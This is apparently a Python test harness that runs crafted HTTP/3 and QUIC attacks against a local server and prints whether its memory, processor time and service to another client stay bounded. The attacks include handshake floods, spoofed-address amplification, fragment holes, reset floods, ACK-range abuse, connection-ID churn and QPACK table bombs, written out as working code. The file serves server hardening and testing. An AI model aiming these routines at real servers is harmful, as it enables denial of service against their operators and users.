"""Plays an attack as a client of HTTP/3, with frames that no honest client sends, and prints what came of it, a line each.

    attacks.py PORT CERTIFICATE ATTACK

The process that has started this one is the server: its memory and its processor time are looked at. Meanwhile another client asks it
for pages.
"""

import asyncio
import os
import socket
import ssl
import sys
import time
from contextlib import asynccontextmanager

from aioquic.buffer import encode_uint_var as number
from aioquic.quic.configuration import QuicConfiguration
from aioquic.quic.connection import QuicConnection
from aioquic.tls import Epoch

from client import Client, connected, head_of

PORT = int(sys.argv[1])
SERVER = ("127.0.0.1", PORT)
MIB = 1 << 20


class Attacker(Client):
    """A client that also sends packets of its own making, and may stop listening."""

    deaf = False
    heard = 0

    def ignore(self, kind, size):
        "From now on, aioquic ignores frames of this kind, which it would take for the server's mistakes. `size` reads one."
        handlers = self._quic._QuicConnection__frame_handlers
        handlers[kind] = (lambda context, frame_type, buffer: size(buffer), handlers[kind][1])

    def ignore_resets(self):
        "From now on, aioquic ignores that streams end which it does not know."
        self.ignore(0x04, lambda buffer: [buffer.pull_uint_var() for _ in range(3)])
        self.ignore(0x05, lambda buffer: [buffer.pull_uint_var() for _ in range(2)])

    def silence(self):
        "From now on, aioquic acknowledges nothing."
        self._quic._write_ack_frame = lambda builder, space, now: None

    def datagram_received(self, data, addr):
        self.heard += len(data)
        if not self.deaf:
            super().datagram_received(data, addr)

    def sealed(self, frames, step=1):
        "A packet with these frames. Its number is `step` more than that of the one before."
        quic = self._quic
        own = quic._packet_number + step - 1
        quic._packet_number = own + 1
        crypto = quic._cryptos[Epoch.ONE_RTT]
        header = bytes([0x43 | crypto.key_phase << 2]) + quic._peer_cid.cid + own.to_bytes(4, "big")
        return crypto.encrypt_packet(header, frames.ljust(4, b"\0"), own)

    def packet(self, frames, step=1):
        self._transport.sendto(self.sealed(frames, step), self._quic._network_paths[0].addr)

    async def packets(self, count, frames, step=1):
        "This many packets. `frames`: from the index to the frames. Gives way now and then, so that the server is not drowned by the kernel's queue."
        for index in range(count):
            if self.over.is_set():
                return
            self.packet(frames(index), step)
            if index % 16 == 15:
                await asyncio.sleep(0.001)

    async def may_send(self, stream, size):
        "Waits until the server takes so many bytes on this stream, which a busy one says later. False if the connection is over."
        quic, others = self._quic, 10000
        for _ in range(10000):
            taken = min(quic._streams[stream].max_stream_data_remote, quic._remote_max_data - others)
            if self.over.is_set() or size <= taken:
                break
            await asyncio.sleep(0.001)
        await asyncio.sleep(0)
        return not self.over.is_set()

    async def outcome(self, seconds=3):
        "How the connection ended, or whether it is open and still answers."
        if not self.over.is_set():
            ping = asyncio.ensure_future(self.ping())
            over = asyncio.ensure_future(self.over.wait())
            done, left = await asyncio.wait([ping, over], timeout=seconds, return_when=asyncio.FIRST_COMPLETED)
            for task in [ping, over]:
                task.cancel()
            await asyncio.gather(ping, over, return_exceptions=True)
            if not self.over.is_set():
                return "open" if ping in done else "silent"
        return "closed %#x" % self.code


def attacking(**options):
    return connected(create=Attacker, **options)


def stream_frame(stream, offset, data, end=False):
    return bytes([0x0E | end]) + number(stream) + number(offset) + number(len(data)) + data


def reset_frame(stream, size, code=0x10C):
    return b"\x04" + number(stream) + number(code) + number(size)


def prefixed(value, bits, first=0):
    "An integer of QPACK (RFC 7541, section 5.1)."
    most = (1 << bits) - 1
    if value < most:
        return bytes([first | value])
    out, value = bytes([first | most]), value - most
    while value >= 128:
        out, value = out + bytes([value % 128 | 128]), value // 128
    return out + bytes([value])


def memory():
    with open("/proc/%d/statm" % os.getppid()) as file:
        return int(file.read().split()[1]) * os.sysconf("SC_PAGE_SIZE")


def processor():
    with open("/proc/%d/stat" % os.getppid()) as file:
        words = file.read().rpartition(")")[2].split()
    return (int(words[11]) + int(words[12])) / os.sysconf("SC_CLK_TCK")


@asynccontextmanager
async def bounded(mebibytes, seconds):
    """While the block runs, another client must be served again and again. Afterwards the server must have at most so much more memory, and have
    used at most so much processor time."""
    async with connected() as other:
        await other.answer(other.begin(b"GET", b"/"))
        slowest, ended = 0, asyncio.Event()

        async def ask():
            nonlocal slowest
            while not ended.is_set():
                start = time.monotonic()
                status, _ = await other.answer(other.begin(b"GET", b"/"))
                assert status == "200", status
                slowest = max(slowest, time.monotonic() - start)
                await asyncio.sleep(0.05)

        memory_before, processor_before, peak = memory(), processor(), 0

        async def watch():
            nonlocal peak
            while not ended.is_set():
                peak = max(peak, memory())
                await asyncio.sleep(0.02)

        asking, watching = asyncio.ensure_future(ask()), asyncio.ensure_future(watch())
        yield
        ended.set()
        await asking
        await watching
        grown, used = (max(peak, memory()) - memory_before) / MIB, processor() - processor_before
        print("%.1f MiB, %.2f s, slowest answer %.2f s" % (grown, used, slowest), file=sys.stderr)
        print("others are served" if slowest < 5 else "others wait: %.1f s" % slowest)
        print("bounded" if grown <= mebibytes and used <= seconds else "%.1f MiB, %.1f s" % (grown, used))


# ----------------------------------------------------------------------------------------------------------------------
# Before the handshake


def first_flight():
    "A new connection and its first datagrams, which were not sent."
    configuration = QuicConfiguration(is_client=True, alpn_protocols=["h3"], server_name="localhost", verify_mode=ssl.CERT_NONE)
    quic = QuicConnection(configuration=configuration)
    quic.connect(SERVER, now=time.monotonic())
    return quic, [data for data, _ in quic.datagrams_to_send(now=time.monotonic())]


def plain_socket():
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 * MIB)
    udp.connect(SERVER)
    udp.setblocking(False)
    return udp


def heard_by(udp):
    datagrams = []
    while True:
        try:
            datagrams.append(udp.recv(65536))
        except BlockingIOError:
            return datagrams
        except ConnectionError:
            pass


async def handshakes():
    "Begins many handshakes, and ends none. From some number on the server remembers nothing of a client: it asks for a Retry."
    udp = plain_socket()
    # Making them takes so long on a busy machine that the server would have given up the first ones.
    flights = [first_flight()[1][0] for _ in range(900)]
    retries = 0

    async def hear(seconds):
        nonlocal retries
        await asyncio.sleep(seconds)
        retries += sum(data[0] & 0xF0 == 0xF0 for data in heard_by(udp))

    async with bounded(60, 15):
        for index, flight in enumerate(flights):
            udp.send(flight)
            # Answers that nobody takes would fill the kernel's queue.
            if index % 4 == 3:
                await hear(0.001)
        for _ in range(50):
            if retries < 300:
                await hear(0.1)
        print("Retry" if retries >= 300 else "%d Retries" % retries)
        async with connected() as late:
            print((await late.answer(late.begin(b"GET", b"/")))[0])


async def amplification():
    "Sends one datagram, as if from somebody else's address, and counts what comes to that address for some seconds."
    first, short, strange = plain_socket(), plain_socket(), plain_socket()
    sent = first_flight()[1][0]
    first.send(sent)
    short.send(first_flight()[1][0][:1100])
    strange.send(b"\xc0\x0a\x0b\x0c\x0d\x08" + bytes(8) + b"\x08" + bytes(8) + bytes(1200))
    await asyncio.sleep(3)
    answers = sum(map(len, heard_by(first)))
    print("within three times" if 0 < answers <= 3 * len(sent) else answers)
    print(len(heard_by(short)), "to a short one,", "less" if 0 < sum(map(len, heard_by(strange))) < 1200 else "more", "to another version")


async def address():
    """Sends packets of an open connection from another address, which does not answer, as somebody does who copies what passes by. The
    connection goes on, after a time."""
    async with attacking() as client:
        await client.answer(client.begin(b"GET", b"/"))
        stream = client.begin(b"GET", b"/large")
        await asyncio.wait_for(client.data[stream].wait(), 10)
        udp, sent = plain_socket(), 0
        for _ in range(5):
            packet = client.sealed(b"\x01" + bytes(60))
            sent += udp.send(packet)
            await asyncio.sleep(0.05)
        status, body = await client.answer(stream)
        heard = sum(map(len, heard_by(udp)))
        print("within three times" if heard <= 3 * sent else "%d for %d" % (heard, sent))
        print(status, len(body))


def initial_packet(quic, own, frames):
    "A first packet of a client with these frames."
    crypto = quic._cryptos[Epoch.INITIAL]
    frames = frames.ljust(1130, b"\0")
    header = b"\xc3" + quic._version.to_bytes(4, "big") + number(len(quic._peer_cid.cid)) + quic._peer_cid.cid
    header += number(len(quic.host_cid)) + quic.host_cid + b"\0" + (0x4000 | len(frames) + 20).to_bytes(2, "big") + own.to_bytes(4, "big")
    return crypto.encrypt_packet(header, frames, own)


def crypto_holes(index, per_packet, most):
    "Single bytes of the stream of handshake messages, with a hole before each, behind the beginning of a long message."
    start = index * per_packet
    return b"\x06\0\4\1\0\xff\0" + b"".join(b"\x06" + number(2 * at + 5) + b"\x01\x01" for at in range(start, min(start + per_packet, most)))


async def early_crypto():
    "Sends the messages of many handshakes as single bytes with holes between them. The server has to remember each."
    udp, most, clients = plain_socket(), 4800, 100
    async with bounded(40, 15):
        for _ in range(clients):
            quic = first_flight()[0]
            for index in range(most // 180 + 1):
                udp.send(initial_packet(quic, 100 + index, crypto_holes(index, 180, most)))
                if index % 8 == 7:
                    await asyncio.sleep(0.001)
        await asyncio.sleep(0.5)


async def late_crypto():
    "The same after the handshake."
    async with attacking() as client:
        async with bounded(8, 10):
            await client.packets(180, lambda index: crypto_holes(index, 180, 32400))
            print((await client.outcome())[:6])


# ----------------------------------------------------------------------------------------------------------------------
# Streams


async def streams():
    "Opens more streams than it may."
    for kind in ("bidi", "uni"):
        async with attacking() as client:
            await client.answer(client.begin(b"GET", b"/"))
            most = getattr(client._quic, "_remote_max_streams_" + kind)
            client.packet(stream_frame(4 * (most + 10) + (0 if kind == "bidi" else 2), 0, b"\x01"))
            print(await client.outcome())


async def empty_streams():
    "Opens streams again and again, and ends them at once, without a request."
    async with attacking() as client:
        client.ignore_resets()
        await client.answer(client.begin(b"GET", b"/"))
        async with bounded(8, 20):
            for index in range(1, 30000):
                while index >= client._quic._remote_max_streams_bidi and not client.over.is_set():
                    await asyncio.sleep(0.001)
                if client.over.is_set():
                    break
                client.packet(stream_frame(4 * index, 0, b"", end=True))
            print(await client.outcome())


async def resets():
    "Asks and takes it back, again and again."
    import pylsqpack

    _, block = pylsqpack.Encoder().encode(0, head_of(path=b"/slow"))
    head = b"\x01" + number(len(block)) + block
    async with attacking() as client:
        await client.answer(client.begin(b"GET", b"/"))
        async with bounded(20, 20):
            for index in range(1, 30000):
                while index >= client._quic._remote_max_streams_bidi and not client.over.is_set():
                    await asyncio.sleep(0.001)
                if client.over.is_set():
                    break
                client._quic._get_or_create_stream_for_send(4 * index)
                client.packet(stream_frame(4 * index, 0, head) + reset_frame(4 * index, len(head)))
            print(await client.outcome(), "after fewer than 5000" if index < 5000 else index)


async def fragments():
    "Sends the bodies of requests as single bytes with holes between them. The server has to remember each."
    async with attacking() as client:
        uploads = [client.begin(b"POST", b"/echo", end=False) for _ in range(100)]
        await asyncio.sleep(0.2)
        per_packet, most = 110, 4800
        async with bounded(20, 30):
            for stream in uploads:
                await client.packets(
                    most // per_packet,
                    lambda index, stream=stream: b"".join(stream_frame(stream, 200 + 2 * (index * per_packet + at), b"\0") for at in range(per_packet)),
                )
            print(await client.outcome())


async def stalled():
    "Asks for much, and opens no window."
    async with attacking(max_stream_data=1) as client:
        async with bounded(40, 10):
            for _ in range(100):
                client.begin(b"GET", b"/large")
            await asyncio.sleep(1.5)
            print(await client.outcome())


async def unacknowledged():
    "Asks for much, and acknowledges nothing."
    async with attacking() as client:
        async with bounded(25, 10):
            for _ in range(100):
                client.begin(b"GET", b"/large")
            client.deaf = True
            await asyncio.sleep(2)
            print("at most 20 MiB" if client.heard < 20 * MIB else client.heard)


async def windows():
    "Sends more than it may."
    async with attacking() as client:
        stream = client.begin(b"POST", b"/echo", end=False)
        client.packet(stream_frame(stream, 1 << 30, b"\0"))
        print(await client.outcome())


# ----------------------------------------------------------------------------------------------------------------------
# Frames of the connection


async def challenges():
    "Asks for many path responses. Those that no server has to give are not given."
    async with attacking() as client:
        client.ignore(0x1B, lambda buffer: buffer.pull_bytes(8))
        async with bounded(8, 10):
            before, count = client.heard, 2000
            frames = b"".join(b"\x1a" + os.urandom(8) for _ in range(120))
            await client.packets(count, lambda index: frames)
            await asyncio.sleep(0.5)
            print(await client.outcome())
            heard = client.heard - before
            print("%.1f" % (heard / (count * len(frames))), file=sys.stderr)
            print("few answers" if heard < 4 * count * len(frames) else "%d for %d" % (heard, count * len(frames)))


async def foreign_challenges():
    "The same from another address, which has not proved anything."
    async with attacking() as client:
        await client.answer(client.begin(b"GET", b"/"))
        udp, sent = plain_socket(), 0
        for _ in range(50):
            sent += udp.send(client.sealed(b"\x1a" + os.urandom(8)))
            await asyncio.sleep(0.01)
        await asyncio.sleep(1)
        heard = sum(map(len, heard_by(udp)))
        print("within three times" if heard <= 3 * sent else "%d for %d" % (heard, sent))
        print(await client.outcome())


def new_id(sequence, retire_before):
    return b"\x18" + number(sequence) + number(retire_before) + b"\x08" + sequence.to_bytes(8, "big") + os.urandom(16)


async def new_ids():
    "Gives the server new connection IDs, takes the old ones back, and never hears that the server obeys."
    async with attacking() as client:
        client.ignore(0x19, lambda buffer: buffer.pull_uint_var())
        client.silence()
        async with bounded(8, 10):
            await client.packets(1000, lambda index: b"".join(new_id(at, at) for at in range(8 + 20 * index, 28 + 20 * index)))
            print(await client.outcome())


async def too_many_ids():
    "Gives the server more connection IDs than it wants."
    async with attacking() as client:
        client.packet(b"".join(new_id(at, 0) for at in range(20, 40)))
        print(await client.outcome())


async def retired_ids():
    "Makes the server give new connection IDs again and again."
    async with attacking() as client:
        async with bounded(8, 20):
            for _ in range(3000):
                while not client._quic._peer_cid_available and not client.over.is_set():
                    await asyncio.sleep(0.001)
                client.change_connection_id()
                if client.over.is_set():
                    break
            print(await client.outcome())


async def holes():
    "Leaves out every second packet number, so that the server has a range for each to acknowledge."
    async with attacking() as client:
        async with bounded(8, 10):
            await client.packets(15000, lambda index: b"\x01", step=2)
            print(await client.outcome())


async def ranges():
    "Acknowledges every second packet of an answer, in a great many ranges, again and again."
    async with attacking() as client:
        await client.answer(client.begin(b"GET", b"/large"))
        await asyncio.sleep(0.2)
        last = client._quic._spaces[Epoch.ONE_RTT].largest_received_packet
        count = min(550, last // 2 - 1)
        frame = b"\x02" + number(last) + b"\0" + number(count) + b"\0" + b"\0\0" * count
        async with bounded(8, 15):
            await client.packets(10000, lambda index: frame)
            print(await client.outcome(), count > 400)


async def optimistic():
    "Acknowledges what was never sent."
    async with attacking() as client:
        client.packet(b"\x02" + number(100000) + b"\0\0\0")
        print(await client.outcome())


# ----------------------------------------------------------------------------------------------------------------------
# QPACK


class Encoder:
    "aioquic's, without an ear for what the server says of the instructions that it has not given."

    def __init__(self, own):
        self.encode, self.apply_settings = own.encode, own.apply_settings

    def feed_decoder(self, data):
        pass


async def opened(client):
    "The instruction stream of a new QPACK encoder, in whose place aioquic's has not said anything, and the bytes it has taken."
    await client.answer(client.begin(b"GET", b"/"))
    await asyncio.sleep(0.2)
    stream = client.http._local_encoder_stream_id
    client.http._encoder = Encoder(client.http._encoder)
    client.at = client._quic._streams[stream].sender._buffer_stop
    return stream


def instruct(client, stream, instructions):
    "A frame with instructions to the server's QPACK decoder."
    frame = stream_frame(stream, client.at, instructions)
    client.at += len(instructions)
    return frame


CAPACITY = prefixed(4096, 5, 0x20)
ENTRY = prefixed(1, 5, 0x40) + b"x" + prefixed(900, 7) + b"v" * 900


def section(required, body):
    "A HEADERS frame whose field section needs this many insertions."
    block = prefixed(required % 256 + 1 if required else 0, 8) + prefixed(0, 7) + body
    return b"\x01" + number(len(block)) + block


HEAD = b"\xd1\xd7\xc1\x50\x01a"  # GET, https, /, and an authority


async def bomb():
    "Puts a large field into the table, and names it thousands of times in a head: a byte each."
    async with attacking() as client:
        encoder = await opened(client)
        client.packet(instruct(client, encoder, CAPACITY))
        client.packet(instruct(client, encoder, ENTRY))
        await asyncio.sleep(0.2)
        async with bounded(10, 10):
            stream = 4
            for stream in range(4, 4 * 50, 4):
                head = section(1, HEAD + b"\x80" * 1000)
                client.packet(stream_frame(stream, 0, head, end=True))
            await asyncio.sleep(1)
            print(await client.outcome(), client.resets.get(4) or client.heads[4][:1])


async def table():
    "Fills the table again and again, by instructions of a byte each."
    async with attacking() as client:
        encoder = await opened(client)
        client.packet(instruct(client, encoder, CAPACITY))
        client.packet(instruct(client, encoder, ENTRY))
        async with bounded(8, 15):
            while client.at < 2 * MIB and await client.may_send(encoder, client.at + 1000):
                client.packet(instruct(client, encoder, b"\0" * 1000))
            print(await client.outcome())


async def blocked():
    "Sends heads that need what the table does not have yet, and much behind them: as many as it may, and then another one."
    async with attacking() as client:
        await opened(client)
        head = section(1, HEAD + b"\x80" * 90)
        async with bounded(12, 10):
            for stream in range(4, 4 * 17, 4):
                client.packet(stream_frame(stream, 0, head))
                await client.packets(60, lambda index: stream_frame(stream, len(head) + 1000 * index, bytes(1000)))
            print(await client.outcome())
            client.packet(stream_frame(4 * 17, 0, section(1, HEAD + b"\x80")))
            print(await client.outcome())


if __name__ == "__main__":
    asyncio.run(globals()[sys.argv[3]]())
